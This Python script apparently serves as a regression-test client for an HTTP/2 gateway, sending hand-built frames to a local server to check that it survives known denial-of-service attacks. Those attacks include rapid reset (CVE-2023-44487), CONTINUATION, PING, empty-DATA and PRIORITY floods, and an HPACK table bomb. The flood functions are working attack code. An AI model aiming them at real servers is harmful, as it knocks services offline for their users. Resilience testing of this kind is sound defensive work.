#!/usr/bin/python3
# HTTP/2 clients for regress/e2e/http2.sh and attack_gateway.sh (the
# floods of empty DATA and of PRIORITY frames) and regress/faults/
# h2reset.sh (rapid resets back to back), frames written by hand
# (HPACK by python3-hpack): the attacks an HTTP/2 server must survive, a
# connection that carries streams for two hosts, and one whose stream is
# under way when the gateway lets it go (goaway, and slow-read for the
# access log's test).  Each prints one line saying what the gateway did;
# every loop and wait is bounded.
#
#	h2attack.py ATTACK PORT HOST [tls CAFILE]
#
# Traffic goes to 127.0.0.1 only.

import socket
import ssl
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING = 0, 1, 2, 3, 4, 6
GOAWAY, WINUPD, CONT = 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + \
        struct.pack(">BBI", ftype, flags, sid) + payload


def settings(**kv):
    ids = {"window": 4, "streams": 3}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v)
                                          for k, v in kv.items()))


class Conn:
    def __init__(self, port, tls=None):
        s = socket.create_connection(("127.0.0.1", port), timeout=10)
        if tls:
            ctx = ssl.create_default_context(cafile=tls)
            ctx.set_alpn_protocols(["h2"])
            s = ctx.wrap_socket(s, server_hostname="a.test")
            assert s.selected_alpn_protocol() == "h2"
        self.s = s
        self.buf = b""
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()

    def send(self, b):
        self.s.sendall(b)

    def start(self, **kv):
        self.send(PREFACE + settings(**kv))

    def head(self, sid, host, path="/", flags=END_STREAM | END_HEADERS,
             extra=()):
        block = self.enc.encode([(":method", "GET"), (":scheme", "https"),
                                 (":authority", host), (":path", path)] +
                                list(extra))
        return frame(HEADERS, flags, sid, block)

    def read_frame(self, deadline):
        """(type, flags, sid, payload), or None at the end or deadline"""
        while len(self.buf) < 9 or \
                len(self.buf) < 9 + int.from_bytes(self.buf[:3], "big"):
            left = deadline - time.monotonic()
            if left <= 0:
                return None
            self.s.settimeout(left)
            try:
                b = self.s.recv(65536)
            except (socket.timeout, ssl.SSLError, OSError):
                return None
            if not b:
                return None
            self.buf += b
        n = int.from_bytes(self.buf[:3], "big")
        ftype, flags, sid = struct.unpack(">BBI", self.buf[3:9])
        payload = self.buf[9:9 + n]
        self.buf = self.buf[9 + n:]
        if ftype == SETTINGS and not flags & ACK:
            try:
                self.send(frame(SETTINGS, ACK, 0))
            except OSError:
                pass
        return ftype, flags, sid & 0x7fffffff, payload

    def until_end(self, secs):
        """frames until the server closes: (GOAWAY seen, closed, frames)"""
        deadline = time.monotonic() + secs
        goaway = False
        frames = []
        while True:
            f = self.read_frame(deadline)
            if f is None:
                return goaway, time.monotonic() < deadline, frames
            frames.append(f)
            if f[0] == GOAWAY:
                goaway = True


def sendall_bounded(c, chunks):
    """send until the server stops us: how many chunks went"""
    n = 0
    for b in chunks:
        try:
            c.send(b)
        except OSError:
            break
        n += 1
    return n


def rapid_reset(c, host):
    # streams opened and cancelled at once (CVE-2023-44487)
    c.start()
    chunks = (c.head(2 * i + 1, host) + frame(RST, 0, 2 * i + 1,
              struct.pack(">I", 8)) for i in range(20000))
    n = sendall_bounded(c, chunks)
    goaway, closed, _ = c.until_end(20)
    print("rapid-reset sent=%d goaway=%d closed=%d" % (n, goaway, closed))


def rapid_reset_loop(c, host):
    # the same, a new connection every 10 ms for 2 seconds (20,000 resets
    # a second against a burst of 200), each connection's frames encoded
    # once, so that the attacker's own CPU is little more than its
    # sending (regress/faults/h2reset.sh)
    port = c.s.getpeername()[1]
    enc = hpack.Encoder()
    blob = PREFACE + settings() + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1,
              enc.encode([(":method", "GET"), (":scheme", "http"),
                          (":authority", host), (":path", "/")])) +
        frame(RST, 0, 2 * i + 1, struct.pack(">I", 8)) for i in range(20000))
    start = time.monotonic()
    n = goaways = 0
    while n < 200:
        sendall_bounded(c, [blob])
        goaway, _, _ = c.until_end(20)
        c.s.close()
        n += 1
        goaways += goaway
        wait = start + n * 0.01 - time.monotonic()
        if n >= 200 or wait < -2:
            break
        if wait > 0:
            time.sleep(wait)
        try:
            c = Conn(port)
        except OSError:
            break
    print("rapid-reset-loop connections=%d goaway=%d" % (n, goaways))


def continuation(c, host):
    # one field block in endless CONTINUATION frames
    c.start()
    first = c.head(1, host, flags=END_STREAM)
    cont = frame(CONT, 0, 1, c.enc.encode([("x-pad", "y" * 16)]))
    n = sendall_bounded(c, [first] + [cont] * 100000)
    goaway, closed, _ = c.until_end(20)
    print("continuation sent=%d goaway=%d closed=%d" % (n, goaway, closed))


def hpack_bomb(c, host):
    # a 4 KiB field in the dynamic table, then named 1000 times over
    c.start()
    big = ("x-bomb", "b" * 4000)
    b1 = c.enc.encode([(":method", "GET"), (":scheme", "https"),
                       (":authority", host), (":path", "/"), big])
    c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, b1))
    idx = bytes([0x80 | 62])         # the newest entry of the table
    b3 = c.enc.encode([(":method", "GET"), (":scheme", "https"),
                       (":authority", host), (":path", "/")]) + idx * 1000
    c.send(frame(HEADERS, END_STREAM | END_HEADERS, 3, b3))
    deadline = time.monotonic() + 20
    got = {}
    while len(got) < 2:
        f = c.read_frame(deadline)
        if f is None:
            break
        if f[0] in (HEADERS, RST) and f[2] in (1, 3):
            got.setdefault(f[2], "reset" if f[0] == RST else "answered")
        if f[0] == GOAWAY:
            got.setdefault(3, "goaway")
    print("hpack-bomb first=%s bomb=%s" % (got.get(1), got.get(3)))


def max_streams(c, host):
    # the client allows itself all streams: the gateway's limit holds
    c.start(streams=0x7fffffff)
    c.send(b"".join(c.head(2 * i + 1, host, "/slow?2000") for i in range(200)))
    deadline = time.monotonic() + 30
    answered = refused = 0
    while answered + refused < 200:
        f = c.read_frame(deadline)
        if f is None:
            break
        if f[0] == RST and struct.unpack(">I", f[3])[0] == 7:
            refused += 1
        elif f[0] == HEADERS:
            answered += 1
    print("max-streams answered=%d refused=%d" % (answered, refused))


def zero_window(c, host):
    # big answers asked for, a window of zero, never opened
    c.start(window=0)
    c.send(b"".join(c.head(2 * i + 1, host, "/big?1000000")
                    for i in range(10)))
    t0 = time.monotonic()
    goaway, closed, _ = c.until_end(60)
    print("zero-window closed=%d after=%d" % (closed,
                                              time.monotonic() - t0))


def ping_flood(c, host):
    # PINGs sent, their acknowledgements never read
    c.start()
    c.s.settimeout(20)
    ping = frame(PING, 0, 0, b"12345678")
    n = sendall_bounded(c, (ping * 100 for _ in range(10000)))
    goaway, closed, _ = c.until_end(20)
    print("ping-flood sent=%d goaway=%d closed=%d" % (n, goaway, closed))


def goaway_code(frames):
    """the error code of the first GOAWAY among frames, or -1"""
    for f in frames:
        if f[0] == GOAWAY and len(f[3]) >= 8:
            return int.from_bytes(f[3][4:8], "big")
    return -1


def empty_data(c, host):
    # a request whose body never comes: 50,000 DATA frames of no byte
    # (CVE-2019-9518), each a wakeup for the server and nothing for us
    c.start()
    c.send(c.head(1, host, "/echo", flags=END_HEADERS))
    empty = frame(DATA, 0, 1)
    n = sendall_bounded(c, (empty * 500 for _ in range(100)))
    goaway, closed, frames = c.until_end(20)
    print("empty-data sent=%d goaway=%d error=%d closed=%d" %
          (n * 500, goaway, goaway_code(frames), closed))


def priority_flood(c, host):
    # 50,000 PRIORITY frames, on streams never opened (CVE-2019-9513's
    # cousin): the server reorders a tree for each
    c.start()
    n = sendall_bounded(c, (b"".join(
        frame(PRIORITY, 0, 2 * (500 * j + i) + 1,
              struct.pack(">IB", 0, 15)) for i in range(500))
        for j in range(100)))
    goaway, closed, frames = c.until_end(20)
    print("priority-flood sent=%d goaway=%d error=%d closed=%d" %
          (n * 500, goaway, goaway_code(frames), closed))


def coalesce(c, host):
    # two hosts on one connection, as a browser coalesces them
    c.start()
    c.send(c.head(1, "a.test") + c.head(3, "b.test", "/headers"))
    deadline = time.monotonic() + 30
    status = {}
    while len(status) < 2:
        f = c.read_frame(deadline)
        if f is None:
            break
        if f[0] == HEADERS:
            hdrs = dict(c.dec.decode(f[3]))
            status[f[2]] = hdrs.get(":status", hdrs.get(b":status"))
    print("coalesce a=%s b=%s" % (status.get(1), status.get(3)))


def goaway(c, host):
    # a slow stream under way when the gateway lets the connection go (a
    # listener removed, orchd stopping): a GOAWAY without error that
    # names the stream, which is answered, then the close
    c.start()
    c.send(c.head(1, host, "/slow?2500"))
    deadline = time.monotonic() + 20
    seen, last, err, status, complete = 0, -1, -1, None, 0
    while True:
        f = c.read_frame(deadline)
        if f is None:
            break
        if f[0] == GOAWAY and len(f[3]) >= 8:
            seen = 1
            last = int.from_bytes(f[3][:4], "big") & 0x7fffffff
            err = int.from_bytes(f[3][4:8], "big")
        elif f[0] == HEADERS and f[2] == 1 and status is None:
            hdrs = dict(c.dec.decode(f[3]))
            status = hdrs.get(":status", hdrs.get(b":status"))
        if f[2] == 1 and f[0] in (DATA, HEADERS) and f[1] & END_STREAM:
            complete = 1
    if isinstance(status, bytes):
        status = status.decode()
    print("goaway=%d last=%d error=%d status=%s complete=%d closed=%d" %
          (seen, last, err, status, complete, time.monotonic() < deadline))


def slow_read(c, host):
    # an answer of 60000 bytes held in the gateway by a shut window when
    # it lets the connection go (orchd stopping): once the GOAWAY comes,
    # the window opens and the answer is read whole
    c.start(window=0)
    c.send(c.head(1, host, "/big?60000"))
    deadline = time.monotonic() + 30
    seen, status, got, complete = 0, None, 0, 0
    while not complete:
        f = c.read_frame(deadline)
        if f is None:
            break
        if f[0] == GOAWAY and not seen:
            seen = 1
            inc = struct.pack(">I", 1 << 20)
            try:
                c.send(frame(WINUPD, 0, 1, inc) + frame(WINUPD, 0, 0, inc))
            except OSError:
                break
        elif f[0] == HEADERS and f[2] == 1 and status is None:
            hdrs = dict(c.dec.decode(f[3]))
            status = hdrs.get(":status", hdrs.get(b":status"))
        elif f[0] == DATA and f[2] == 1:
            got += len(f[3])
        if f[2] == 1 and f[0] in (DATA, HEADERS) and f[1] & END_STREAM:
            complete = 1
    if isinstance(status, bytes):
        status = status.decode()
    print("slow-read goaway=%d status=%s bytes=%d complete=%d" %
          (seen, status, got, complete))


def main():
    attack, port, host = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    tls = sys.argv[5] if len(sys.argv) > 5 and sys.argv[4] == "tls" else None
    try:
        c = Conn(port, tls)
    except OSError as e:
        print("%s connect failed: %s" % (attack, e))
        return
    globals()[attack.replace("-", "_")](c, host)


main()
